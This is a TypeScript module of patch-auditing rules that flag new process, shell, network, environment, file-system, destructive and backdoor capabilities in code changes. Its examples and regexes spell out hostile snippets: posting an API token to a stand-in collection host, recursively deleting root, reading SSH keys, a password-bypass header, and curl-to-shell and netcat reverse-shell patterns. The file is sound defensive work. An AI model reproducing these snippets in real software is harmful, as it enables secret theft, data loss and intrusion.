import type { AuditedFile } from '../audited-file.js'
import { correctsModule } from '../corrected-module.js'
import type { Side } from '../side.js'
import { addedPatterns, eachFile, isCode, milderInTests, sightingsOf, type InspectFile, type Rule } from '../rule.js'
import { matchesIn, newCapability, type Pattern } from '../uses.js'

/** Public places to drop data at, and services that log whatever name is asked for. */
const dropBoxes =
  /\b(?:webhook\.site|requestbin\.\w{2,6}|pipedream\.net|ngrok(?:-free)?\.(?:io|app|dev)|oast\.(?:fun|pro|live|site|online|me)|oastify\.com|interact\.sh|burpcollaborator\.net|pastebin\.com|hastebin\.com|transfer\.sh|0x0\.st|file\.io|anonfiles\.com|beeceptor\.com|dnslog\.\w{2,4}|canarytokens\.com|requestcatcher\.com|discord(?:app)?\.com\/api\/webhooks|api\.telegram\.org\/bot)/gi

export const capabilityRules: readonly Rule[] = [
  {
    id: 'PROC-SPAWN-NEW',
    cwe: 78,
    tier: 'high',
    stage: 'static',
    capability: 'process',
    title: 'The file can newly start other programs',
    rationale:
      'A program that is started has all rights of the process and none of its checks. Few files need that, and a repair seldom does.',
    example: { path: 'src/cart.js', before: 'total()\n', after: "import { execFile } from 'node:child_process'\ntotal()\n" },
    nearMiss: {
      path: 'src/cart.js',
      before: "import { execFile } from 'node:child_process'\n",
      after: "import { execFile, spawn } from 'node:child_process'\n",
    },
    inspect: eachFile(
      newlyCan((side) => matchesIn(side, side.whole ? startsPrograms : [...startsPrograms, ...startsProgramsPerhaps])),
    ),
  },
  {
    id: 'PROC-SHELL',
    cwe: 78,
    tier: 'high',
    stage: 'static',
    capability: 'process',
    title: 'The patch hands a command line to a shell',
    rationale: 'A shell reads more than was meant: any value in the line can end one command and begin another.',
    example: {
      path: 'src/git.js',
      before: "import { exec } from 'node:child_process'\n",
      after: "import { exec } from 'node:child_process'\nexec(`git log ${branch}`)\n",
    },
    nearMiss: {
      path: 'src/git.js',
      before: "import { execFile } from 'node:child_process'\n",
      after:
        "import { execFile } from 'node:child_process'\nexecFile('git', ['log', branch])\nconst found = pattern.exec(`a${b}`)\n",
    },
    inspect: milderInTests([
      { in: 'code', regex: /\bshell\s*[:=]\s*(?:true|True)\b/g },
      {
        in: 'code',
        regex: /\b(?:shell|shelljs|child_process|childProcess|cp)\s*\.\s*exec(?:Sync)?\s*\(\s*[A-Za-z_$][\w$.]{0,60}\s*[,)]/g,
      },
      {
        in: 'plain',
        regex:
          /(?:(?<![\w$.])|\b(?:child_process|cp|childProcess)\s*\.\s*)exec(?:Sync)?\s*\(\s*(?:`[^`\n]{0,300}\$\{|(['"])(?:(?!\1)[^\n]){0,300}\1\s*\+|[\w.]{1,80}\s*\+\s)/g,
      },
      {
        in: 'plain',
        regex:
          /\b(?:spawn|spawnSync|execFile|execFileSync|Popen|run)\s*\(\s*\[?\s*['"](?:\/bin\/|\/usr\/bin\/)?(?:sh|bash|zsh|dash|cmd|cmd\.exe|powershell(?:\.exe)?|pwsh)['"]/g,
      },
      { in: 'plain', regex: /\bos\s*\.\s*system\s*\(\s*(?:f['"]|['"][^'"\n]{0,200}['"]\s*[+%]|\w)/g },
    ]),
  },
  {
    id: 'NET-NEW',
    cwe: 200,
    tier: 'high',
    stage: 'static',
    capability: 'network',
    title: 'The file can newly speak to the network',
    rationale: 'What leaves the process cannot be taken back. A file that never needed the network seldom begins to in a repair.',
    example: { path: 'src/cart.js', before: 'total()\n', after: "total()\nawait fetch('https://example.org/')\n" },
    nearMiss: {
      path: 'src/cart.js',
      before: "await fetch('https://example.org/a')\n",
      after: "await fetch('https://example.org/b')\nstore.fetch(1)\n",
    },
    inspect: eachFile((file, patch) => {
      const found = newlyCan((side) => matchesIn(side, speaksToNetwork))(file, patch)
      return found.length > 0 && handsFetchOn(file) ? newlyCan((side) => matchesIn(side, speaksOtherwise))(file, patch) : found
    }),
  },
  {
    id: 'NET-EXFIL',
    cwe: 200,
    tier: 'high',
    stage: 'static',
    indicator: true,
    title: 'The patch sends private data away, or names a place where such data goes',
    rationale:
      'Environment, files and secrets in the same statement as a network call, addresses without a name, and public drop boxes are what data theft looks like. Beside a new network capability it blocks.',
    example: {
      path: 'src/log.js',
      before: 'a()\n',
      after: "a()\nfetch('https://collect.example.net/', { method: 'POST', body: process.env.API_TOKEN })\n",
    },
    nearMiss: {
      path: 'src/log.js',
      before: 'a()\n',
      after: 'a()\nfetch(`${process.env.API_URL}/users`, { headers: { Authorization: `Bearer ${process.env.API_TOKEN}` } })\n',
    },
    inspect: addedPatterns(
      [
        { in: 'values', regex: dropBoxes },
        {
          in: 'values',
          regex: /\b(?:https?|wss?|ftp|tcp):\/\/(?:\d{1,3}\.){3}\d{1,3}\b/g,
          unless: (match) =>
            /\/\/(?:127\.|0\.0\.0\.0|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|192\.0\.2\.|198\.51\.100\.|203\.0\.113\.)/.test(
              match[0],
            ),
        },
        {
          in: 'code',
          regex:
            /\bnew\s+Image\b[^;\n]{0,200}\bdocument\s*\.\s*cookie\b|\.\s*src\s*=[^;\n]{0,200}\bdocument\s*\.\s*cookie\b|\b(?:fetch|sendBeacon|send|open|post)\s*\([^;\n]{0,300}\b(?:document\s*\.\s*cookie|localStorage|sessionStorage)\b/g,
        },
        { in: 'values', regex: /\b169\.254\.169\.254\b|\bmetadata\.google\.internal\b/g },
        {
          in: 'plain',
          regex:
            /(?:(?<![\w$.])fetch|\baxios(?:\.\w{1,12})?|\bgot(?:\.\w{1,12})?|\bhttps?\.(?:get|request)|\bsendBeacon|\bdns\.\w{1,20}|\bnew\s+WebSocket|(?:\b(?:socket|client|req|request|conn|ws)|\))\s*\.\s*(?:write|end|send)|\brequests\.\w{1,12})\s*\([^;]{0,400}/g,
          unless: (match) => !sendsPrivateData(match[0]),
        },
      ],
      (file) => isCode(file) && !file.test,
    ),
  },
  {
    id: 'ENV-DUMP',
    cwe: 526,
    tier: 'high',
    stage: 'static',
    capability: 'environment',
    title: 'The patch reads the whole environment',
    rationale:
      'The environment holds the secrets of the process. Code that needs a variable names it; code that takes all of them takes the secrets.',
    example: { path: 'src/info.js', before: 'a()\n', after: 'a()\nlog(JSON.stringify(process.env))\n' },
    nearMiss: {
      path: 'src/info.js',
      before: 'a()\n',
      after: "a()\nspawn(program, { env: { ...process.env, CI: '1' } })\nlog(process.env.NODE_ENV)\n",
    },
    inspect: addedPatterns(
      [
        {
          in: 'plain',
          regex:
            /\b(?:stringify|entries|keys|values|fromEntries|inspect|log|info|debug|error|send|json|write|encode|serialize)\s*\(\s*(?:\{\s*\.\.\.)?process\s*(?:\.\s*env|\[\s*['"]env['"]\s*\])\s*[,)}]/g,
        },
        { in: 'code', regex: /\b(?:body|data|payload|json|params)\s*:\s*(?:\{\s*\.\.\.)?process\s*\.\s*env\s*[,}\n]/g },
        {
          in: 'values',
          regex:
            /\/proc\/(?:self|\d{1,7})\/environ|\bprocess\.report\.(?:getReport|writeReport)\b|\bjson\.dumps\(\s*dict\(\s*os\.environ/g,
        },
        { in: 'code', regex: /\b(?:printenv|env)\s*(?:\||>)\s*\w/g },
      ],
      (file) => isCode(file) && !file.test,
    ),
  },
  {
    id: 'FS-SENSITIVE',
    cwe: 552,
    tier: 'high',
    stage: 'static',
    capability: 'file-system',
    title: 'The patch names files that hold keys, accounts or start-up commands',
    rationale:
      'Private keys, credentials, shell start-up files and system accounts have no place in the code of a project; world-writable rights hand a file to everybody.',
    example: { path: 'src/read.js', before: 'a()\n', after: "a()\nread(home + '/.ssh/id_rsa')\n" },
    nearMiss: { path: 'src/read.js', before: 'a()\n', after: "a()\nread(home + '/.config/shop.json')\n" },
    inspect: addedPatterns(
      [
        {
          in: 'values',
          regex:
            /(?:^|['"`~/\\])\.(?:ssh|aws|kube|gnupg|netrc|git-credentials|bash_history|docker\/config\.json)\b|\bid_(?:rsa|ed25519|ecdsa)\b|\/etc\/(?:passwd|shadow|sudoers|crontab|cron\.\w{1,10}|ld\.so\.preload|systemd\/)|\.git\/hooks\b|['"`~/]\.(?:bashrc|zshrc|bash_profile|npmrc)\b|\/Library\/Keychains|\/var\/run\/docker\.sock/gm,
        },
        {
          in: 'plain',
          regex: /\bchmod\w{0,6}\s*\([^)\n]{0,120}\b0o?777\b|\bmode\s*:\s*0o?777\b|\bchmod\s+(?:-R\s+)?(?:777|a\+w)\b/g,
        },
      ],
      (file) => isCode(file) && !file.test,
    ),
  },
  {
    id: 'DESTRUCTIVE',
    cwe: 506,
    tier: 'high',
    stage: 'static',
    title: 'The patch can destroy data far beyond its file',
    rationale:
      'Removing a root, a home or a working folder, dropping tables or deleting rows without a condition cannot be undone by a rollback of the patch.',
    example: { path: 'src/clean.js', before: 'a()\n', after: "a()\nrmSync('/', { recursive: true, force: true })\n" },
    nearMiss: {
      path: 'src/clean.js',
      before: 'a()\n',
      after: "a()\nrmSync('./cache', { recursive: true })\ndb.run('DELETE FROM carts WHERE id = ?', id)\n",
    },
    inspect: addedPatterns(
      [
        {
          in: 'plain',
          regex:
            /\b(?:rm|rmSync|rmdir|rmdirSync|rimraf|rimrafSync|remove|removeSync|emptyDir|emptyDirSync|unlink|unlinkSync|rmtree|del)\s*\(\s*(?:\[\s*)?(?:['"`](?:\/|~|\/\*|~\/\*?|\.\.?|\.\.?\/|\*\*?|\/(?:home|usr|etc|var|bin|lib|opt|root|boot|Users)(?:\/[^'"`\n]{0,80})?|[A-Z]:\\{0,2})['"`]|(?:os\s*\.\s*)?homedir\s*\(\s*\)|process\s*\.\s*cwd\s*\(\s*\)\s*[,)]|process\s*\.\s*env\s*\.\s*(?:HOME|USERPROFILE)\b)/g,
        },
        {
          in: 'text',
          regex:
            /\brm\s+(?:-{1,2}[\w-]{1,20}\s+){1,4}(?:--\s+)?["']?(?:\/(?:\*|\s|$|["'`])|~|\$\{?HOME\b|\.\.?\/?(?:\s|$|["'`])|\/(?:home|usr|etc|var|bin|lib|opt|root)\b)/gm,
          unless: inComment,
        },
        {
          in: 'values',
          regex:
            /\bDROP\s+(?:TABLE|DATABASE|SCHEMA)\s+\w|\bDROP\s+OWNED\b|\bTRUNCATE\s+TABLE\s+\w|\bDELETE\s+FROM\s+[\w."`]{1,80}\s*(?:;|['"`)]|$)/gim,
        },
        {
          in: 'values',
          regex:
            /\bkill\s*\(\s*-1\b|\bkill\s+-(?:9|KILL|SIGKILL)\s+-1\b|\bmkfs(?:\.\w|\s)|\bdd\s+if=\S{1,80}\s+of=\/dev\/|>\s*\/dev\/sd[a-z]\b|:\(\)\s*\{\s*:\s*\|\s*:|\bgit\s+(?:push\s+[^\n'"`]{0,80}(?:--force\b|-f\b)|reset\s+--hard\b|clean\s+-\w{0,6}f)|['"`;&|]\s*(?:sudo\s+)?(?:shutdown|reboot|halt|poweroff)\b/g,
        },
        {
          // A path that climbs out of the folder it starts from, or that is a home or a root.
          in: 'plain',
          regex:
            /\b(?:rm|rmSync|rmdir|rmdirSync|rimraf|rimrafSync|remove|removeSync|emptyDir|emptyDirSync)\s*\(\s*(?:\w{1,20}\s*\.\s*)?(?:(?:join|resolve)\s*\(\s*(?:__dirname|process\s*\.\s*cwd\s*\(\s*\)|import\.meta\.dirname|['"`]\/['"`])(?:\s*,\s*['"`]\.\.(?:\/\.\.)*\/?['"`]){0,9}\s*\)|['"`]\/['"`]\s*\+|`\/\$\{)/g,
        },
        {
          in: 'plain',
          regex:
            /\b(?:spawn|spawnSync|execFile|execFileSync|execa)\s*\(\s*['"`]rm['"`]\s*,\s*\[\s*['"`]-\w{0,6}[rR]\w{0,6}['"`]\s*,\s*(?:['"`]-\w{1,8}['"`]\s*,\s*)?(?:['"`](?:\/|~|\.\.?)[*/]?['"`]|(?:os\s*\.\s*)?homedir\b|process\s*\.\s*(?:cwd|env))/g,
        },
        {
          in: 'code',
          regex:
            /\b(?:deleteMany|destroy|updateMany|remove)\s*\(\s*(?:\{\s*\}\s*)?\)(?=\s*(?:[;,.\n)]|$))|\bdropDatabase\s*\(|\bflush(?:all|db)\s*\(|\bdropAllTables\s*\(|\bdestroy\s*\(\s*\{\s*(?:truncate\s*:\s*true|where\s*:\s*\{\s*\})|\bsync\s*\(\s*\{\s*force\s*:\s*true/g,
          unless: (match, side) =>
            /^(?:destroy|remove)\s*\(\s*\)/.test(match[0]) ||
            (/^(?:deleteMany|updateMany)/.test(match[0]) &&
              !/\bawait\b|\.\s*then\b|[A-Z]\w*\s*\.\s*(?:deleteMany|updateMany)/.test(side.lineTextAt(match.index))),
        },
        {
          // The home folder by another name.
          in: 'code',
          regex:
            /\b(?:const|let|var)\s+(\w{1,40})\s*=\s*(?:os\s*\.\s*)?homedir\s*\(\s*\)\s*;?\s[^]{0,400}?\b(?:rm|rmSync|rmdirSync|rimraf|removeSync)\s*\(\s*\1\s*[,)]/g,
        },
        {
          in: 'plain',
          regex:
            /\b(?:writeFile|writeFileSync|truncate|truncateSync|createWriteStream|appendFileSync)\s*\(\s*['"`]\/(?:etc|var\/lib|usr|boot|bin|sbin|dev\/(?!null|stdout|stderr|tty|fd))\b/g,
        },
        {
          in: 'values',
          regex:
            /\bUPDATE\s+[\w."`]{1,80}\s+SET\s+(?:(?!\bWHERE\b)[^;'"`\n]){1,300}(?:;|['"`]|$)|\bALTER\s+TABLE\s+\S{1,80}\s+DROP\s+(?:COLUMN\s+)?\w/gim,
        },
      ],
      (file) => (isCode(file) || /\.sql$/i.test(file.path)) && !file.test,
    ),
  },
  {
    id: 'BACKDOOR',
    cwe: 912,
    tier: 'high',
    stage: 'static',
    indicator: true,
    title: 'The patch opens a way in that only its author knows',
    rationale:
      'A literal in a request that skips the checks, a date on which code wakes up, and downloads piped into a shell have no honest use in a repair.',
    example: { path: 'src/login.js', before: 'a()\n', after: "a()\nif (req.headers['x-debug'] === 'letmein99') return next()\n" },
    nearMiss: {
      path: 'src/login.js',
      before: 'a()\n',
      after: "a()\nif (req.headers['content-type'] === 'application/json') parse(body)\n",
    },
    inspect: addedPatterns(
      [
        {
          in: 'plain',
          regex:
            /\bif\s*\([^\n{}]{0,120}\b(?:headers?|body|query|cookies?|params|password|username|user|email)\b[^\n{}=]{0,80}={2,3}\s*['"`][^'"`\n]{3,80}['"`]\s*\)\s*\{?\s*(?:return\s+(?:next\s*\(|true\b)|next\s*\(|\w{1,40}\s*=\s*true\b)/g,
        },
        {
          in: 'plain',
          regex:
            /(?:\bDate\.now\(\)|\+?\bnew Date\(\)(?:\.getTime\(\))?)\s*[<>]=?\s*(?:\+?new Date\(\s*['"\d]|Date\.(?:parse|UTC)\(|1[6-9]\d{11}\b|2\d{12}\b)/g,
        },
        {
          in: 'values',
          regex: /\b(?:curl|wget)\b[^|\n]{0,300}\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b|\/dev\/tcp\/|\bnc\s+-\w{0,6}e\s/g,
        },
      ],
      (file) => isCode(file) && !file.test,
    ),
  },
]

/**
 * A capability new in the file; in a test, or where the patch only spells the name of its module rightly, it is ordinary and only
 * counts beside something else.
 */
function newlyCan(find: (side: Side) => ReturnType<typeof matchesIn>): InspectFile {
  return (file: AuditedFile) => {
    if (!isCode(file)) return []
    const found = newCapability(file, find)
    const isMild = file.test || found.every((use) => correctsModule(file, use))
    return sightingsOf(file, found, file.after, isMild ? { tier: 'medium' } : {})
  }
}

/** A file that hands `fetch` on could speak already; where only hunks are known, its calls may be out of sight. */
function handsFetchOn({ before }: AuditedFile): boolean {
  return (
    before !== undefined &&
    /(?<![\w$.])(?:(?:globalThis|window|self)\s{0,9}\.\s{0,9})?fetch\b(?!\s{0,9}[(:])/.test(before.masked.code)
  )
}

const startsPrograms: readonly Pattern[] = [
  {
    in: 'plain',
    regex:
      /(?:\bfrom|\bimport|\brequire\s*\(|\bimport\s*\()\s*['"](?:node:)?(?:child_process|cluster|execa|cross-spawn|shelljs|zx|node-pty)['"]/g,
    unless: typeOnly,
  },
  {
    in: 'code',
    regex:
      /\bchild_process\s*\.\s*(?:spawn|exec|fork)\w{0,8}|\bsubprocess\s*\.\s*(?:Popen|run|call|check_output|check_call|getoutput)\b|\bos\s*\.\s*(?:system|popen|exec[lv]\w{0,3}|spawn[lv]\w{0,3})\s*\(|\bDeno\s*\.\s*(?:Command|run)\b|\bBun\s*\.\s*(?:spawn|\$)|\bRuntime\.getRuntime\(\)\.exec\b/g,
  },
]

/** Where only hunks are known, the import may be out of sight. */
const startsProgramsPerhaps: readonly Pattern[] = [
  { in: 'code', regex: /(?<![\w$.])(?:execSync|execFile|execFileSync|spawnSync)\s*\(/g },
]

const speaksOtherwise: readonly Pattern[] = [
  {
    in: 'plain',
    regex:
      /(?:\bfrom|\bimport|\brequire\s*\(|\bimport\s*\()\s*['"](?:node:)?(?:net|tls|dgram|dns|dns\/promises|http|https|http2|undici|axios|got|ky|node-fetch|cross-fetch|ws|request|superagent|needle|socket\.io-client|nodemailer)['"]/g,
    unless: typeOnly,
  },
  {
    in: 'code',
    regex:
      /\bnew\s+(?:WebSocket|XMLHttpRequest|EventSource|RTCPeerConnection)\b|\bnavigator\s*\.\s*sendBeacon\b|\bimport\s+(?:requests|socket|urllib\.request|http\.client)\b|\brequests\s*\.\s*(?:get|post|put)\s*\(/g,
  },
]
const speaksToNetwork: readonly Pattern[] = [
  ...speaksOtherwise,
  {
    in: 'code',
    regex: /(?<![\w$.])fetch\s*\(|\b(?:globalThis|window|self)\s*\.\s*fetch\s*\(/g,
    unless: definesFetch,
  },
]

function typeOnly(match: RegExpExecArray, side: Side): boolean {
  return /^\s*(?:import|export)\s+type\b/.test(side.lineTextAt(match.index))
}

/** `fetch(id) {` in a class or an object, and `function fetch(`, define a method of that name. */
function definesFetch(match: RegExpExecArray, side: Side): boolean {
  if (!match[0].startsWith('fetch')) return false
  const { code } = side.masked
  const after = code.slice(match.index, match.index + 300)
  return (
    /\b(?:function|def)\s*\*?\s*$/.test(code.slice(Math.max(0, match.index - 20), match.index)) ||
    /^fetch\s*\([^()]{0,200}\)\s*(?::[^={;()]{0,80})?\{/.test(after)
  )
}

/** Whether the arguments of a network call hold private data; a variable that says where to send, or a header of ours, is none. */
function sendsPrivateData(call: string): boolean {
  if (
    /\b(?:readFileSync|readFile)\s*\(\s*['"`](?:\/|~|\.\.|[^'"`\n]{0,60}(?:\.env|\.npmrc|id_rsa|credentials|secret))/.test(call)
  )
    return true
  for (const match of call.matchAll(/\bprocess\.env\b(?:\.(\w{1,60})|\[\s*['"](\w{1,60})['"]\s*\])?/g)) {
    const name = match[1] ?? match[2] ?? 'SECRET'
    const before = call.slice(Math.max(0, match.index - 120), match.index)
    if (/URL|URI|HOST|ORIGIN|ENDPOINT|PORT|BASE|DOMAIN|ENV|REGION|VERSION|TIMEOUT|DEBUG|PROXY/.test(name)) continue
    if (
      !/(?:authorization|headers|bearer|basic|api[-_]?key|x-[\w-]{1,30}|auth|username|password|apikey)['"]?\]?\s*[:=(]?[^\n]{0,60}$/i.test(
        before,
      )
    )
      return true
  }
  return /\bos\.(?:userInfo|networkInterfaces)\(\)|\bos\.environ\b(?!\s*[.[])/.test(call)
}

function inComment(match: RegExpExecArray, side: Side): boolean {
  return side.masked.plain.slice(match.index, match.index + 2).trim() === ''
}
